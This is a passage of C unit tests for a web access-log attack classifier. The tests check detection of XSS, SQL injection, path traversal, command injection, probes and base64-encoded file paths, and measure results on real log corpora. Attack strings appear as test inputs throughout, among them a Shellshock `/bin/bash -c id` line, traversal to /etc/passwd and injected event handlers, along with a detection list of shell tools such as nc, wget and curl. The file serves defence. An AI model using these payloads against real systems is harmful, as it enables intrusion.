static ao_record_t record_of(const row_t *r) {
  ao_record_t rec = {0};
  rec.method = sl(r->method);
  rec.target = sl(r->target);
  rec.protocol = sl("HTTP/1.1");
  rec.user_agent = sl(r->ua != NULL ? r->ua : CHROME);
  rec.referer = sl(r->referer);
  rec.status = r->status;
  if (strchr(r->target, '\\') || strchr(rec.user_agent.p, '\\') ||
      (r->referer && strchr(r->referer, '\\')))
    rec.flags |= AO_REC_ESCAPED;
  return rec;
}

static void mask_names(ao_catmask_t m, char *buf, size_t cap) {
  buf[0] = '\0';
  if (m == 0) {
    snprintf(buf, cap, "none");
    return;
  }
  for (int k = 0; k < AO_CAT_BUILTIN_COUNT; k++) {
    if (m & AO_CAT_BIT(k)) {
      size_t l = strlen(buf);
      snprintf(buf + l, cap - l, "%s%s", l ? "," : "", ao_category_name(k));
    }
  }
}

/* Every row, with its exact category set. All failures are listed before
 * the test fails, so that one run shows the whole picture. */
static void test_table(void **state) {
  (void)state;
  ao_classifier_t *c = new_classifier(8192);
  size_t bad = 0, attacks = 0, benign = 0;
  for (size_t i = 0; i < AO_ARRAY_SIZE(rows); i++) {
    const row_t *r = &rows[i];
    ao_record_t rec = record_of(r);
    ao_catmask_t got = ao_classify(c, &rec);
    if (r->want != 0)
      attacks++;
    else
      benign++;
    if (got != r->want) {
      char g[96], w[96];
      mask_names(got, g, sizeof(g));
      mask_names(r->want, w, sizeof(w));
      print_error("row %zu (%s): %s %s [ua %s] -> %s, want %s\n", i, r->why,
                  r->method, r->target, r->ua ? r->ua : "chrome", g, w);
      bad++;
    }
  }
  print_message("%zu rows: %zu attacks, %zu benign, %zu wrong\n",
                AO_ARRAY_SIZE(rows), attacks, benign, bad);
  assert_true(AO_ARRAY_SIZE(rows) >= 150);
  ao_classifier_destroy(c);
  assert_int_equal(bad, 0);
}

/* The same record classified twice (the user-agent memo) and after other
 * records gives the same answer. */
static void test_memo_is_transparent(void **state) {
  (void)state;
  ao_classifier_t *c = new_classifier(8192);
  for (int pass = 0; pass < 3; pass++) {
    for (size_t i = 0; i < AO_ARRAY_SIZE(rows); i++) {
      ao_record_t rec = record_of(&rows[i]);
      assert_int_equal(ao_classify(c, &rec), rows[i].want);
    }
  }
  /* same bytes, escaped or not, are different inputs */
  ao_record_t a = {0}, b = {0};
  a.user_agent = sl("x\\x3csvg/onload=go()>");
  b = a;
  b.flags = AO_REC_ESCAPED;
  assert_int_equal(ao_classify(c, &a), 0);
  assert_int_equal(ao_classify(c, &b), X);
  assert_int_equal(ao_classify(c, &a), 0);
  ao_classifier_destroy(c);
}

/* A target that misses the memo takes its path's verdict from the memo
 * when the path was seen with another query (AO_MEMO_PATH), and the line's
 * verdict is still the one computed from the bytes: the path's categories
 * (traversal, a probe that counts only for 403/404/410) with the query's.
 * Compared with a classifier whose memos are off. */
static void test_path_memo(void **state) {
  (void)state;
  ao_classifier_t *c = new_classifier(8192), *off = new_classifier(8192);
  ao_classifier_set_memo(off, 0);
  static const struct {
    const char *target;
    int status;
  } seq[] = {
      {"/.hidden/app?x=1", 404},
      {"/.hidden/app?x=2", 200}, /* same path, not absent: no probe */
      {"/.hidden/app?x=3", 404},
      {"/.hidden/app?q=%3Cscript%3Ealert(1)%3C/script%3E", 404},
      {"/etc/passwd?a=1", 200},
      {"/etc/passwd?a=2", 200},
      {"/shop/item?id=1", 200},
      {"/shop/item?id=2'%20or%20'1'='1", 200},
      {"/shop/item?id=3", 200},
      {"/shop/item", 200}, /* no query: the target's own entry */
  };
  ao_catmask_t got[AO_ARRAY_SIZE(seq)];
  for (size_t i = 0; i < AO_ARRAY_SIZE(seq); i++) {
    ao_record_t rec = {0};
    rec.method = sl("GET");
    rec.target = sl(seq[i].target);
    rec.user_agent = sl(CHROME);
    rec.status = seq[i].status;
    got[i] = ao_classify(c, &rec);
    ao_catmask_t want = ao_classify(off, &rec);
    if (got[i] != want)
      fail_msg("%s (%d): %#x with the path memo, %#x without", seq[i].target,
               seq[i].status, (unsigned)got[i], (unsigned)want);
  }
  /* the rows say what they are meant to: the status decides the probe,
   * and the path's and the query's categories add up */
  assert_int_equal(got[0], P);
  assert_int_equal(got[1], 0);
  assert_int_equal(got[3], P | X);
  assert_int_equal(got[4], T);
  assert_int_equal(got[7], S);
  uint64_t lookups, hits;
  ao_classifier_memo_stats(c, AO_MEMO_PATH, &lookups, &hits);
  assert_int_equal(lookups, 9); /* every target with a query */
  assert_int_equal(hits, 5);    /* x=3, q=, a=2, id=2, id=3 */
  ao_classifier_destroy(c);
  ao_classifier_destroy(off);
}

/* Constructor errors and NULL destroy. */
static void test_create_errors(void **state) {
  (void)state;
  ao_err_t err;
  assert_null(ao_classifier_create(0, &err));
  assert_non_null(strstr(err.msg, "max_line"));
  assert_null(ao_classifier_create((size_t)-1, &err));
  assert_null(ao_classifier_create(0, NULL));
  ao_classifier_destroy(NULL);
}

/* Fields longer than max_line are cut at max_line: an attack beyond the cut
 * is not seen, one before it is, and nothing is read past the cut. */
static void test_max_line_truncation(void **state) {
  (void)state;
  ao_classifier_t *c = new_classifier(64);
  char *t = malloc(4096);
  memset(t, 'a', 4095);
  t[4095] = '\0';
  memcpy(t, "/x?a=", 5);
  memcpy(t + 2000, "%3Cscript%3E", 12);
  ao_record_t rec = {0};
  rec.target = sl(t);
  rec.status = 200;
  assert_int_equal(ao_classify(c, &rec), 0);
  memcpy(t + 10, "%3Cscript%3E", 12);
  assert_int_equal(ao_classify(c, &rec), X);
  free(t);
  ao_classifier_destroy(c);
}

/* Bytes of every value, NUL included, in every field: no crash, and NULs
 * do not hide an attack. */
static void test_binary_fields(void **state) {
  (void)state;
  ao_classifier_t *c = new_classifier(1024);
  char buf[512];
  for (int i = 0; i < 256; i++)
    buf[i] = (char)i;
  ao_record_t rec = {0};
  rec.target = (ao_slice_t){buf, 256};
  rec.user_agent = (ao_slice_t){buf, 256};
  rec.referer = (ao_slice_t){buf, 256};
  rec.flags = AO_REC_ESCAPED;
  (void)ao_classify(c, &rec);
  static const char nul_attack[] = "/x?q=%3Cscr\0ipt%3E";
  memcpy(buf, nul_attack, sizeof(nul_attack) - 1);
  rec.target = (ao_slice_t){buf, sizeof(nul_attack) - 1};
  rec.user_agent = AO_SLICE_EMPTY;
  rec.referer = AO_SLICE_EMPTY;
  rec.flags = 0;
  assert_int_equal(ao_classify(c, &rec), X); /* NUL removed, raw or not */
  rec.target = sl("/x?q=%3Cscr%00ipt%3E");
  assert_int_equal(ao_classify(c, &rec), X); /* decoded NUL is removed */
  ao_classifier_destroy(c);
}

/* Empty records and non-HTTP request lines. */
static void test_empty_and_not_http(void **state) {
  (void)state;
  ao_classifier_t *c = new_classifier(1024);
  ao_record_t rec = {0};
  rec.status = -1;
  assert_int_equal(ao_classify(c, &rec), 0);
  rec.flags = AO_REC_NOT_HTTP | AO_REC_ESCAPED;
  rec.request = sl("\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xfc\\x03\\x03");
  rec.status = 400;
  assert_int_equal(ao_classify(c, &rec), 0);
  rec.request = sl("() { :; }; /bin/bash -c id");
  assert_int_equal(ao_classify(c, &rec), R);
  ao_record_t auth = {0};
  auth.flags = AO_REC_AUTH_FAILURE;
  assert_int_equal(ao_classify(c, &auth), A);
  ao_record_t scan = {0};
  scan.flags = AO_REC_SCANNER;
  assert_int_equal(ao_classify(c, &scan), AO_CAT_BIT(AO_CAT_SCANNER));
  ao_classifier_destroy(c);
}

/* A query logged apart from the path ($uri + $args, %U + %q) is classified
 * as a query; the path alone stays a path. */
static void test_separate_query(void **state) {
  (void)state;
  ao_classifier_t *c = new_classifier(1024);
  ao_record_t rec = {0};
  rec.status = 200;
  rec.target = sl("/search");
  rec.query = sl("q=1%27%20OR%20%271%27%3D%271");
  assert_int_equal(ao_classify(c, &rec), AO_CAT_BIT(AO_CAT_SQLI));
  rec.query = sl("q=union+station");
  assert_int_equal(ao_classify(c, &rec), 0);
  rec.target = sl("/download");
  rec.query = sl("file=../../../../etc/passwd");
  assert_int_equal(ao_classify(c, &rec), AO_CAT_BIT(AO_CAT_TRAVERSAL));
  ao_classifier_destroy(c);
}

/* Hostile repetition (thousands of operators, quotes, separators, tags)
 * costs linear work: each check looks at a bounded window, the SQL rules at
 * a bounded window of tokens. Measured with the classifier's work counter
 * (bytes scanned, plus the window of every check run, plus what the SQL
 * structure rules examine), not with a clock: four times the input must
 * cost at most about four times the work, never sixteen, and the test
 * gives the same answer under valgrind and sanitizers. */
static uint64_t classify_work(ao_classifier_t *c, const char *unit, size_t len,
                              char *t) {
  size_t ul = strlen(unit), n = 5;
  memcpy(t, "/x?q=", 5);
  while (n + ul < len) {
    memcpy(t + n, unit, ul);
    n += ul;
  }
  ao_record_t rec = {0};
  rec.target = (ao_slice_t){t, n};
  rec.user_agent = (ao_slice_t){t, n};
  rec.referer = (ao_slice_t){t, n};
  rec.status = 404;
  uint64_t before = ao_classifier_work(c);
  (void)ao_classify(c, &rec);
  return ao_classifier_work(c) - before;
}

static void test_hostile_repetition_is_linear(void **state) {
  (void)state;
  enum { SMALL = 15000, LARGE = 60000 };
  static const char *const units[] = {
      "' or ",   "%27%20or%20", ";",       "|",        "||",     "&",
      "${",      "${x",         "{{",      "{{7",      "}",      "<a ",
      "<",       "..%2f",       "../",     "on",       "on x=",  "union ",
      "/*",      "--",          "%25",     "&#",       "&lt",    "\\x",
      "%c0%af",  "()",          "$(",      "\n",       "=",      "'",
      "or 1=1 ", "select ",     "char(",   "sleep(",   "@@",     "javascript:",
      "://",     "%00.",        "a=",      "\\",       "(",      "1 or (",
      "/**/",    "'||'",        "=eval;",  "for %i ",  "exec(",  "::",
      "aGVsbG8g", "a&",         "alert(",  "/etc/",    "data:",  ";base64,",
      "x'='y'",  "case when ",  "\\n",     "=$'",      "<!--#"};
  ao_classifier_t *c = new_classifier(LARGE + 16);
  char *t = malloc(LARGE + 16);
  int bad = 0;
  for (size_t u = 0; u < AO_ARRAY_SIZE(units); u++) {
    uint64_t small = classify_work(c, units[u], SMALL, t);
    uint64_t large = classify_work(c, units[u], LARGE, t);
    if (small == 0 || large > 4 * small + small / 8 + 4096) {
      print_error("unit \"%s\": work %llu for %d bytes, %llu for %d: not "
                  "linear\n",
                  units[u], (unsigned long long)small, SMALL,
                  (unsigned long long)large, LARGE);
      bad = 1;
    }
  }
  free(t);
  ao_classifier_destroy(c);
  assert_false(bad);
}

/* --- the real logs ------------------------------------------------------ */

typedef struct log_result {
  long lines, unparsed, flagged;
  long per_cat[AO_CAT_BUILTIN_COUNT];
} log_result_t;

/* Classifies every line of a log; calls on_flag for flagged ones. */
static void run_log(const char *path, log_result_t *res,
                    void (*on_flag)(const char *line, size_t n,
                                    ao_catmask_t m)) {
  size_t len;
  char *buf = ao_test_slurp(path, &len);
  ao_err_t err;
  ao_parser_t *p = ao_parser_create(AO_FMT_COMBINED, &err);
  assert_non_null(p);
  ao_classifier_t *c = new_classifier(65536);
  memset(res, 0, sizeof(*res));
  char *line = buf;
  while (line < buf + len) {
    char *nl = memchr(line, '\n', (size_t)(buf + len - line));
    size_t n = nl != NULL ? (size_t)(nl - line) : (size_t)(buf + len - line);
    res->lines++;
    ao_record_t rec;
    if (ao_parser_parse(p, line, n, &rec) != 0) {
      res->unparsed++;
    } else {
      ao_catmask_t m = ao_classify(c, &rec);
      if (m != 0) {
        res->flagged++;
        for (int k = 0; k < AO_CAT_BUILTIN_COUNT; k++)
          if (m & AO_CAT_BIT(k))
            res->per_cat[k]++;
        if (on_flag != NULL)
          on_flag(line, n, m);
      }
    }
    line += n + 1;
  }
  ao_classifier_destroy(c);
  ao_parser_destroy(p);
  free(buf);
}

/* The paths of the flags reviewed by hand in the Elastic log: WordPress
 * login and admin probes (the site runs no WordPress: 404), Joomla admin
 * probes, /admin.php, and one FCKeditor scan (HEAD, 404). */
static const char *const elastic_reviewed[] = {"/wp-login.php", "/wp-admin/",
                                               "/administrator/", "/admin.php",
                                               "fckeditor/"};

static void elastic_flag(const char *line, size_t n, ao_catmask_t m) {
  char copy[4096];
  size_t k = n < sizeof(copy) - 1 ? n : sizeof(copy) - 1;
  memcpy(copy, line, k);
  copy[k] = '\0';
  for (char *p = copy; *p; p++)
    if (*p >= 'A' && *p <= 'Z')
      *p = (char)(*p - 'A' + 'a');
  int known = 0;
  for (size_t i = 0; i < AO_ARRAY_SIZE(elastic_reviewed) && !known; i++)
    known = strstr(copy, elastic_reviewed[i]) != NULL;
  char names[96];
  mask_names(m, names, sizeof(names));
  print_message("  flagged [%s] %.*s\n", names, (int)k, line);
  if (!known || m != P) {
    print_error("unreviewed flag: %.*s\n", (int)k, line);
    fail();
  }
}

/* Elastic's Apache log: 10,000 real lines, mostly benign. The measured and
 * reviewed figure: 53 flags, all probes (see elastic_reviewed), 0.53%. The
 * one unparsed line is truncated in the corpus itself. */
static void test_elastic_log(void **state) {
  (void)state;
  char *path = ao_test_shared("access_logs/elastic_apache_logs.log");
  if (path == NULL) {
    print_message("AO_SHARED_DATA not set or corpus missing: skipped\n");
    skip();
  }
  log_result_t r;
  run_log(path, &r, elastic_flag);
  free(path);
  print_message("elastic: %ld lines, %ld unparsed, %ld flagged (%.2f%%), "
                "probe %ld\n",
                r.lines, r.unparsed, r.flagged,
                100.0 * (double)r.flagged / (double)r.lines,
                r.per_cat[AO_CAT_PROBE]);
  assert_int_equal(r.lines, 10000);
  assert_int_equal(r.flagged, 53);
  assert_int_equal(r.per_cat[AO_CAT_PROBE], 53);
}

/* The hackers log: every client is a bot or an attacker by its owner's
 * account, but they spam forms and brute-force a login with browser user
 * agents and ordinary paths: nothing in a line says so. Measured: 0 flags;
 * catching them needs rates (a later issue). */
static void test_hackers_log(void **state) {
  (void)state;
  char *path = ao_test_shared("access_logs/logparser_hackers-access.log");
  if (path == NULL) {
    print_message("AO_SHARED_DATA not set or corpus missing: skipped\n");
    skip();
  }
  log_result_t r;
  run_log(path, &r, NULL);
  free(path);
  print_message("hackers: %ld lines, %ld unparsed, %ld flagged (%.2f%%)\n",
                r.lines, r.unparsed, r.flagged,
                100.0 * (double)r.flagged / (double)r.lines);
  assert_int_equal(r.lines, 3456);
  assert_int_equal(r.flagged, 0);
}

/* shell_word() rejects a word by its first two or three characters before
 * reading the rest and looking it up (cmd_prefix_ok()). Every command of
 * the table after a ';' with an argument is command injection, also when
 * quotes, backslashes or a glob hide it; every near miss (one character
 * changed, added or removed, random tails after a command's first two or
 * three characters) is command injection exactly when it is a command.
 * The table is rce_cmds in ao_classify.c: a command added there and not
 * here shows up as a near miss that is unexpectedly flagged. */
static const char *const commands[] = {
    "base64",   "bash",   "bitsadmin",  "busybox",  "cat",      "cd",
    "certutil", "chmod",  "chown",      "cmd",      "cp",       "crontab",
    "curl",     "dir",    "echo",       "find",     "grep",     "head",
    "hostname", "id",     "ifconfig",   "ipconfig", "kill",     "ksh",
    "ls",       "mkfifo", "more",       "mv",       "nc",       "ncat",
    "net",      "netcat", "netstat",    "nohup",    "nslookup", "perl",
    "php",      "ping",   "powershell", "ps",       "pwd",      "python",
    "python3",  "rm",     "ruby",       "sh",       "sleep",    "systeminfo",
    "tail",     "telnet", "tftp",       "touch",    "type",     "uname",
    "useradd",  "wget",   "who",        "whoami",   "xterm",    "zsh"};

static int is_command(const char *w) {
  for (size_t k = 0; k < AO_ARRAY_SIZE(commands); k++)
    if (strcmp(commands[k], w) == 0)
      return 1;
  return 0;
}

/* ao_classify() of "/p?a=1;<word>+5", "/p?a=1|<word>+5" and
 * "/p?a=1%26<word>+5" (the shell sees "<word> 5" after a separator): 1
 * when command injection was found after each, 0 when after none, -1 when
 * the separators disagree. */
static int rce_after_semicolon(ao_classifier_t *c, const char *word) {
  static const char *const seps[] = {";", "|", "%26"};
  int found = 0;
  for (size_t k = 0; k < AO_ARRAY_SIZE(seps); k++) {
    char target[128];
    snprintf(target, sizeof(target), "/p?a=1%s%s+5", seps[k], word);
    row_t r = {"GET", target, NULL, NULL, 200, 0, ""};
    ao_record_t rec = record_of(&r);
    found += (ao_classify(c, &rec) & R) != 0;
  }
  return found == 0 ? 0 : found == (int)AO_ARRAY_SIZE(seps) ? 1 : -1;
}

static void test_command_prefix_filter(void **state) {
  (void)state;
  ao_classifier_t *c = new_classifier(8192);
  ao_classifier_set_memo(c, 0);
  static const char chars[] = "abcdefghijklmnopqrstuvwxyz0123456789_";
  char w[64];
  size_t checked = 0;
  for (size_t k = 0; k < AO_ARRAY_SIZE(commands); k++) {
    const char *cmd = commands[k];
    size_t n = strlen(cmd);
    if (rce_after_semicolon(c, cmd) != 1)
      fail_msg("command \"%s\" not found", cmd);
    /* hidden from a literal match: c''at, c%5Cat (c\at), c[a]t */
    snprintf(w, sizeof(w), "%c''%s", cmd[0], cmd + 1);
    assert_int_equal(rce_after_semicolon(c, w), 1);
    snprintf(w, sizeof(w), "%.2s%%5C%s", cmd, cmd + 2);
    if (n > 2 && rce_after_semicolon(c, w) != 1)
      fail_msg("\"%s\" not found", w);
    snprintf(w, sizeof(w), "%.1s[%c]%s", cmd, cmd[1], cmd + 2);
    if (rce_after_semicolon(c, w) != 1)
      fail_msg("\"%s\" not found", w);
    snprintf(w, sizeof(w), "%.2s[%c]%s", cmd, n > 2 ? cmd[2] : 'x',
             n > 2 ? cmd + 3 : "");
    if (rce_after_semicolon(c, w) != (n > 2))
      fail_msg("\"%s\": wrong verdict", w);
    /* one character changed, at every position but the first (the
     * first-letter filter's business) */
    for (size_t p = 1; p < n; p++) {
      for (const char *ch = chars; *ch; ch++) {
        snprintf(w, sizeof(w), "%s", cmd);
        w[p] = *ch;
        if (rce_after_semicolon(c, w) != is_command(w))
          fail_msg("\"%s\" (from \"%s\"): wrong verdict", w, cmd);
        checked++;
      }
    }
    /* one added at the end, and the last removed */
    for (const char *ch = chars; *ch; ch++) {
      snprintf(w, sizeof(w), "%s%c", cmd, *ch);
      if (rce_after_semicolon(c, w) != is_command(w))
        fail_msg("\"%s\": wrong verdict", w);
    }
    snprintf(w, sizeof(w), "%.*s", (int)(n - 1), cmd);
    if (rce_after_semicolon(c, w) != is_command(w))
      fail_msg("\"%s\": wrong verdict", w);
  }
  /* random tails after the first two or three characters of a command */
  uint32_t x = 4242;
  for (int round = 0; round < 20000; round++) {
    x = x * 1103515245u + 12345u;
    const char *cmd = commands[(x >> 16) % AO_ARRAY_SIZE(commands)];
    x = x * 1103515245u + 12345u;
    size_t keep = 2 + (x >> 16) % 2, n = keep;
    if (keep > strlen(cmd))
      keep = n = strlen(cmd);
    memcpy(w, cmd, keep);
    x = x * 1103515245u + 12345u;
    for (size_t tail = (x >> 16) % 7; tail > 0; tail--) {
      x = x * 1103515245u + 12345u;
      w[n++] = chars[(x >> 16) % (sizeof(chars) - 1)];
    }
    w[n] = '\0';
    if (rce_after_semicolon(c, w) != is_command(w))
      fail_msg("\"%s\": wrong verdict", w);
    checked++;
  }
  print_message("%zu near misses checked\n", checked);
  ao_classifier_destroy(c);
}

/* Commands that also count at the start of a query value (cmd_t.value in
 * ao_classify.c). */
static int is_value_command(const char *w) {
  static const char *const value_commands[] = {
      "bash",       "bitsadmin", "busybox", "cat",   "certutil", "chmod",
      "chown",      "curl",      "dir",     "ksh",   "ls",       "mkfifo",
      "nc",         "ncat",      "netcat",  "nohup", "perl",     "php",
      "powershell", "python",    "python3", "ruby",  "sh",       "telnet",
      "tftp",       "useradd",   "wget",    "zsh"};
  for (size_t k = 0; k < AO_ARRAY_SIZE(value_commands); k++)
    if (strcmp(value_commands[k], w) == 0)
      return 1;
  return 0;
}

/* The quick reject before rce_at_value() (cmd_word_may()): a query value
 * "<word> -x" is command injection exactly when the word is a command
 * that counts there, and a user agent "<word> -x" when it is any command;
 * for every command, every first byte, every pair of a letter and a key
 * character, every third key character after a command's first two, and
 * blanks, directories, $IFS and quotes before or in the word. */
static void test_value_prefix_filter(void **state) {
  (void)state;
  ao_classifier_t *c = new_classifier(8192);
  ao_classifier_set_memo(c, 0);
  static const char chars[] = "abcdefghijklmnopqrstuvwxyz0123456789_";
  char w[64], target[128];
  size_t nc = AO_ARRAY_SIZE(commands);
  for (size_t k = 0; k < nc + 26 * 37 + nc * 37; k++) {
    if (k < nc) {
      snprintf(w, sizeof(w), "%s", commands[k]);
    } else if (k < nc + 26 * 37) { /* every letter and key character */
      size_t j = k - nc;
      snprintf(w, sizeof(w), "%c%c", 'a' + (int)(j / 37), chars[j % 37]);
    } else { /* a command's first two, then every key character */
      size_t j = k - nc - 26 * 37;
      snprintf(w, sizeof(w), "%.2s%c", commands[j / 37], chars[j % 37]);
    }
    int want = is_value_command(w);
    snprintf(target, sizeof(target), "/p?a=%s+-x", w);
    row_t r = {"GET", target, NULL, NULL, 200, 0, ""};
    ao_record_t rec = record_of(&r);
    if (((ao_classify(c, &rec) & R) != 0) != want)
      fail_msg("query value \"%s -x\": wrong verdict", w);
    /* the same behind blanks, a directory, $IFS, or hidden */
    static const char *const before[] = {"+",        "%09",  "/bin/",
                                         "usr/bin/", "bin/", "$IFS"};
    /* (after a directory, "/bin/sh" and "/bin/bash" not followed by a
     * letter are command injection by their own rule) */
    int bin_sh = (strncmp(w, "sh", 2) == 0 && !isalpha((unsigned char)w[2])) ||
                 (strncmp(w, "bash", 4) == 0 && !isalpha((unsigned char)w[4]));
    for (size_t b = 0; b < AO_ARRAY_SIZE(before); b++) {
      snprintf(target, sizeof(target), "/p?a=%s%s+-x", before[b], w);
      r.target = target;
      rec = record_of(&r);
      int want_b = want || (bin_sh && strstr(before[b], "/bin/") != NULL);
      if (((ao_classify(c, &rec) & R) != 0) != want_b)
        fail_msg("query value \"%s%s -x\": wrong verdict", before[b], w);
    }
    snprintf(target, sizeof(target), "/p?a=%c''%s+-x", w[0], w + 1);
    r.target = target;
    rec = record_of(&r);
    if (((ao_classify(c, &rec) & R) != 0) != want)
      fail_msg("query value \"%s\": wrong verdict", target);
    char ua[96];
    snprintf(ua, sizeof(ua), "%s -x", w);
    r.target = "/";
    r.ua = ua;
    rec = record_of(&r);
    if (((ao_classify(c, &rec) & R) != 0) != is_command(w))
      fail_msg("user agent \"%s\": wrong verdict", ua);
  }
  /* every first byte */
  for (int b = 1; b < 256; b++) {
    char ua[8] = {(char)b, 'a', 't', ' ', '-', 'x', 0};
    row_t r = {"GET", "/", ua, NULL, 200, 0, ""};
    ao_record_t rec = record_of(&r);
    rec.flags = 0;
    int want = b == 'c' || b == 'C'; /* "cat -x" (folded); "bat", " at" no */
    if (((ao_classify(c, &rec) & R) != 0) != want)
      fail_msg("user agent \"\\x%02x"
               "at -x\": wrong verdict",
               b);
  }
  ao_classifier_destroy(c);
}

/* The quick reject before ck_js_assign() (js_assign_may()): "a=<word>;x(1)"
 * is XSS exactly when the word is a sink, for every sink, every pair of a
 * letter and a word character, and words one character off a sink. */
static void test_js_assign_filter(void **state) {
  (void)state;
  static const char *const sinks[] = {"eval",     "alert",      "prompt",
                                      "confirm",  "settimeout", "setinterval",
                                      "unescape", "function",   "execscript"};
  static const char chars[] = "abcdefghijklmnopqrstuvwxyz0123456789_";
  ao_classifier_t *c = new_classifier(8192);
  ao_classifier_set_memo(c, 0);
  char w[64], target[128];
  size_t nw = 0;
  for (size_t k = 0; k < AO_ARRAY_SIZE(sinks) * 40 + 26 * 37; k++) {
    if (k < AO_ARRAY_SIZE(sinks) * 40) {
      const char *sk = sinks[k / 40];
      size_t v = k % 40;
      snprintf(w, sizeof(w), "%s", sk);
      if (v > 0 && v <= 37)
        w[1] = chars[v - 1]; /* the second character changed */
      else if (v == 38)
        w[0] = 'b'; /* the first */
      else if (v == 39)
        w[strlen(w) - 1] = '_'; /* the last */
    } else {
      size_t j = k - AO_ARRAY_SIZE(sinks) * 40;
      snprintf(w, sizeof(w), "%c%c", 'a' + (int)(j / 37), chars[j % 37]);
    }
    int want = 0;
    for (size_t s = 0; s < AO_ARRAY_SIZE(sinks); s++)
      want |= strcmp(sinks[s], w) == 0;
    /* "a=eval;x(1)", "a= eval;x(1)" (blanks go to the full check),
     * "a=eval,x(1)" */
    static const char *const forms[][2] = {{"", ";"}, {"+", ";"}, {"", ","}};
    for (size_t f = 0; f < AO_ARRAY_SIZE(forms); f++) {
      snprintf(target, sizeof(target), "/p?a=%s%s%sx(1)", forms[f][0], w,
               forms[f][1]);
      row_t r = {"GET", target, NULL, NULL, 200, 0, ""};
      ao_record_t rec = record_of(&r);
      if (((ao_classify(c, &rec) & X) != 0) != want)
        fail_msg("\"%s\": wrong verdict", target);
      nw++;
    }
  }
  print_message("%zu assignments checked\n", nw);
  ao_classifier_destroy(c);
}

/* An event handler's "on" needs a blank, '/', a quote or ';' right
 * before it (ck_xss_handler(); on_hit() asks the same before the call,
 * so that the "on" inside words costs no call). Every byte before
 * "onmouseover=go()", after a quote that breaks out of an attribute: the
 * handler is found after exactly those bytes. The baseline is what the
 * other rules find in the same text with the handler's name spoiled
 * ("xnmouseover"). */
static void test_handler_prefix(void **state) {
  (void)state;
  ao_classifier_t *c = new_classifier(8192);
  ao_classifier_set_memo(c, 0);
  unsigned handlers = 0;
  for (unsigned b = 0; b < 256; b++) {
    int want = b == ' ' || b == '\t' || b == '\n' || b == '\r' || b == '\v' ||
               b == '\f' || b == 0xa0 || b == '/' || b == '\'' || b == '"' ||
               b == '`' || b == ';';
    char on[64], off[64];
    snprintf(on, sizeof(on), "/s?q=%%22x%%%02Xonmouseover=go()", b);
    snprintf(off, sizeof(off), "/s?q=%%22x%%%02Xxnmouseover=go()", b);
    row_t r = {"GET", on, NULL, NULL, 200, 0, ""};
    ao_record_t rec = record_of(&r);
    int got = (ao_classify(c, &rec) & X) != 0;
    r.target = off;
    rec = record_of(&r);
    int base = (ao_classify(c, &rec) & X) != 0;
    if (got != (want || base))
      fail_msg("byte 0x%02X before \"onmouseover=\": XSS %d, want %d", b, got,
               want || base);
    handlers += got && !base;
  }
  print_message("%u bytes start a handler\n", handlers);
  assert_int_equal(handlers, 12);
  ao_classifier_destroy(c);
}

/* Base64 of t[0..n) into out (NUL-terminated), with the standard or the
 * URL-safe alphabet and '=' padding or none. */
static void b64_encode(const char *t, size_t n, int url, int pad, char *out) {
  const char *a = url ? "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"
                        "0123456789-_"
                      : "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"
                        "0123456789+/";
  size_t o = 0;
  for (size_t i = 0; i < n; i += 3) {
    uint32_t v = (uint32_t)(unsigned char)t[i] << 16;
    if (i + 1 < n)
      v |= (uint32_t)(unsigned char)t[i + 1] << 8;
    if (i + 2 < n)
      v |= (unsigned char)t[i + 2];
    size_t k = n - i >= 3 ? 4 : n - i + 1;
    for (size_t j = 0; j < 4; j++)
      if (j < k)
        out[o++] = a[(v >> (18 - 6 * j)) & 63u];
      else if (pad)
        out[o++] = '=';
  }
  out[o] = '\0';
}

/* Parameters that are base64 of a path (base64_items(): the value is
 * decoded as it is, and again after one round of percent-decoding only
 * when it has a '%'): found in both alphabets, padded or not, with '+',
 * '/' and '=' percent-encoded; and not found once any one digit is
 * replaced by a byte that is no base64 digit. */
static void test_base64_values(void **state) {
  (void)state;
  static const char *const payloads[] = {
      "x/../../../etc/passwd",  "/etc/shadow",
      "..\\..\\..\\boot.ini",   "/proc/self/environ?",
      "c:\\windows\\win.ini>>", "/var/log/auth.log~~",
      "/etc/hosts???~~~" /* digits 63 and 62: "Pz8/", "fn5+" */};
  ao_classifier_t *c = new_classifier(8192);
  ao_classifier_set_memo(c, 0);
  char b64[128], val[384], target[512];
  size_t checked = 0;
  for (size_t k = 0; k < AO_ARRAY_SIZE(payloads); k++) {
    for (int form = 0; form < 4; form++) {
      b64_encode(payloads[k], strlen(payloads[k]), form & 1, form & 2, b64);
      /* as is, and with '+', '/', '=' percent-encoded */
      for (int pct = 0; pct < 2; pct++) {
        size_t o = 0;
        for (const char *p = b64; *p; p++) {
          if (pct && (*p == '+' || *p == '/' || *p == '='))
            o += (size_t)snprintf(val + o, sizeof(val) - o, "%%%02X", *p);
          else
            val[o++] = *p;
        }
        val[o] = '\0';
        snprintf(target, sizeof(target), "/x?f=%s", val);
        row_t r = {"GET", target, NULL, NULL, 200, 0, ""};
        ao_record_t rec = record_of(&r);
        if (!(ao_classify(c, &rec) & T))
          fail_msg("\"%s\" (%s): not found", target, payloads[k]);
        /* one digit made invalid, wherever it is */
        size_t n = strlen(b64);
        for (size_t i = 0; i < n; i++) {
          if (b64[i] == '=')
            continue;
          static const char bad[] = ".*!~";
          snprintf(val, sizeof(val), "%s", b64);
          val[i] = bad[i % 4];
          snprintf(target, sizeof(target), "/x?f=%s", val);
          r.target = target;
          rec = record_of(&r);
          if (ao_classify(c, &rec) & T)
            fail_msg("\"%s\": found", target);
          checked++;
        }
      }
    }
  }
  /* text is at least 90% printable: a path of 20 bytes with 2 bytes that
   * are not printable is looked at, with 3 it is not, wherever they are
   * (the decoding stops at the third); '+' and '/' of the encoding
   * percent-encoded or not */
  for (int bad = 0; bad <= 3; bad++) {
    for (size_t at = 5; at + (size_t)bad <= 20; at++) {
      for (int pct = 0; pct < 2; pct++) {
        char p20[24];
        memcpy(p20, "/etc/hosts?~~~?~~~?~", 20);
        for (int k = 0; k < bad; k++)
          p20[at + (size_t)k] = (char)(k == 1 ? 0xff : 0x01);
        b64_encode(p20, 20, 0, 1, b64);
        size_t o = 0;
        for (const char *p = b64; *p; p++)
          o += (size_t)(pct && (*p == '+' || *p == '/' || *p == '=')
                            ? snprintf(val + o, 4, "%%%02X", *p)
                            : snprintf(val + o, 2, "%c", *p));
        snprintf(target, sizeof(target), "/x?f=%s", val);
        row_t r = {"GET", target, NULL, NULL, 200, 0, ""};
